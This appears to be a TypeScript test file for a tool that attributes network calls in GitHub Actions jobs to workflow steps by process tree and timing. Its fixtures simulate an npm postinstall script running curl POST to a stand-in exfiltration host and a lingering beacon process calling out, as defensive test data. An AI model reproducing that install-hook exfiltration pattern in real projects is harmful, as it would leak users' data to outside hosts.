import { afterEach, describe, expect, it } from 'vitest';
import { at, call, callRow, exec, exit, meta, newCase, processes, step, type TestCase } from './analysis-case';

let c: TestCase;
afterEach(() => c?.close());

const WORKER = '/home/runner/actions-runner/cached/bin/Runner.Worker';

/** A job: worker at 0 s; step 1 [0.5, 2], step 3 [2, 10], step 4 [10, 20], step 5 [20, 25]. */
function job(tc: TestCase) {
  const { db } = tc;
  const s1 = step(db, { number: 1, name: 'Set up job', start: at(0.5), end: at(2) });
  const s3 = step(db, { number: 3, name: 'Run npm ci', start: at(2), end: at(10) });
  const s4 = step(db, { number: 4, name: 'Run npm test', start: at(10), end: at(20) });
  const s5 = step(db, { number: 5, name: 'Complete job', start: at(20), end: at(25) });
  exec(db, { ts: at(0.1), pid: 1000, ppid: 900, exe: WORKER, args: [WORKER, 'spawnclient', '139', '142'] });
  return { s1, s3, s4, s5 };
}

describe('attribution', () => {
  it('gives a call the step that started its process tree, and the step running at the time', () => {
    c = newCase();
    const { db } = c;
    const { s3, s4 } = job(c);
    exec(db, { ts: at(2.1), pid: 1100, ppid: 1000, exe: '/usr/bin/bash', args: ['bash', '-e', '/home/runner/work/_temp/x.sh'] });
    exec(db, { ts: at(2.2), pid: 1101, ppid: 1100, exe: '/usr/local/bin/node', args: ['node', '/usr/local/bin/npm', 'ci'] });
    exec(db, { ts: at(3), pid: 1102, ppid: 1101, exe: '/usr/bin/sh', args: ['sh', '-c', 'node scripts/postinstall.js'] });
    exec(db, { ts: at(3.1), pid: 1103, ppid: 1102, exe: '/usr/bin/curl', args: ['curl', '-X', 'POST', 'https://t.exfil.example/v2/collect'] });
    exit(db, { ts: at(3.5), pid: 1103 });
    // background process left by npm ci, calling during step 4
    exec(db, { ts: at(4), pid: 1104, ppid: 1102, exe: '/usr/local/bin/node', args: ['node', '.cache/beacon.js'] });
    exit(db, { ts: at(9), pid: 1102 });
    exit(db, { ts: at(9.5), pid: 1101 });
    exit(db, { ts: at(9.9), pid: 1100 });
    const exfil = call(db, { ts: at(3.2), pid: 1103, domain: 't.exfil.example' });
    const beacon = call(db, { ts: at(15), pid: 1104, domain: 'beacon.exfil.example' });
    const worker = call(db, { ts: at(1), pid: 1000, domain: 'api.github.com' });
    const noProc = call(db, { ts: at(12), domain: 'registry.example.org' });
    c.finalize();

    const ps = processes(db);
    const bash = ps.find((p) => p.pid === 1100)!;
    expect(callRow(db, exfil)).toMatchObject({ step_id: s3, running_step_id: s3 });
    expect(callRow(db, beacon)).toMatchObject({ step_id: s3, running_step_id: s4 });
    expect(callRow(db, worker)).toMatchObject({ step_id: expect.any(Number), running_step_id: expect.any(Number) });
    expect(callRow(db, worker).step_id).toBe(callRow(db, worker).running_step_id);
    expect(callRow(db, noProc)).toMatchObject({ process_id: null, step_id: s4, running_step_id: s4 });
    for (const pid of [1100, 1101, 1102, 1103, 1104]) {
      const p = ps.find((q) => q.pid === pid)!;
      expect(p.entry_id).toBe(bash.id);
      expect(p.step_id).toBe(s3);
    }
    expect(ps.find((p) => p.pid === 1000)!.entry_id).toBeNull();
    expect(ps.find((p) => p.pid === 1104)!.depth).toBe(4);
  });

  it('falls back to the step holding the call when the chain does not reach the worker', () => {
    c = newCase();
    const { db } = c;
    const { s3, s4 } = job(c);
    exec(db, { ts: at(3), pid: 2000, ppid: 1, exe: '/usr/bin/containerd-shim' });
    exec(db, { ts: at(3.5), pid: 2001, ppid: 2000, exe: '/usr/bin/wget' });
    const id = call(db, { ts: at(11), pid: 2001, domain: 'x.example' });
    c.finalize();
    expect(callRow(db, id)).toMatchObject({ step_id: s4, running_step_id: s4 });
    const wget = processes(db).find((p) => p.pid === 2001)!;
    expect(wget.entry_id).toBeNull();
    expect(wget.step_id).toBe(s3); // its own start
  });

  it('recognises the worker by argv[0] (dotnet host) and picks the nearest worker', () => {
    c = newCase();
    const { db } = c;
    const s = step(db, { number: 2, name: 'Run tests', start: at(1), end: at(9) });
    exec(db, { ts: at(0.5), pid: 3000, exe: '/usr/share/dotnet/dotnet', args: ['/opt/runner/bin/Runner.Worker', 'spawnclient'] });
    exec(db, { ts: at(1.5), pid: 3001, ppid: 3000, exe: '/usr/bin/bash' });
    exec(db, { ts: at(2), pid: 3002, ppid: 3001, exe: '/usr/bin/curl' });
    const id = call(db, { ts: at(2.5), pid: 3002, ip: '203.0.113.7' });
    c.finalize();
    const ps = processes(db);
    expect(ps.find((p) => p.pid === 3002)!.entry_id).toBe(ps.find((p) => p.pid === 3001)!.id);
    expect(callRow(db, id).step_id).toBe(s);
  });

  it('prefers the steps of the job the manifest names when several jobs overlap', () => {
    c = newCase();
    const { db } = c;
    meta(db, 'run', { repository: 'acme/web', job: 'test' });
    const build = step(db, { job: 'build', number: 2, name: 'Run make', start: at(1), end: at(30) });
    const test = step(db, { job: 'test', number: 2, name: 'Run npm test', start: at(0.5), end: at(10) });
    const id = call(db, { ts: at(5), domain: 'github.com' });
    const late = call(db, { ts: at(20), domain: 'github.com' });
    c.finalize();
    expect(callRow(db, id)).toMatchObject({ step_id: test, running_step_id: test });
    expect(callRow(db, late)).toMatchObject({ step_id: build, running_step_id: build });
  });

  it('a step with no completed_at lasts until the next step; contextSeconds widens windows over gaps', () => {
    c = newCase();
    const { db } = c;
    const s1 = step(db, { number: 1, name: 'Set up job', start: at(0), end: null });
    const s2 = step(db, { number: 2, name: 'Run a', start: at(5), end: at(6) });
    const s3 = step(db, { number: 3, name: 'Run b', start: at(8), end: at(9) });
    const open = call(db, { ts: at(3), domain: 'github.com' });
    const gap = call(db, { ts: at(6.5), domain: 'github.com' });
    const far = call(db, { ts: at(30), domain: 'github.com' });
    c.finalize();
    expect(callRow(db, open).running_step_id).toBe(s1);
    expect(callRow(db, gap).running_step_id).toBeNull();
    c.finalize({ contextSeconds: 1 });
    expect(callRow(db, gap).running_step_id).toBe(s2);
    expect(callRow(db, far).running_step_id).toBeNull();
    expect(s3).toBeGreaterThan(s2);
  });
});
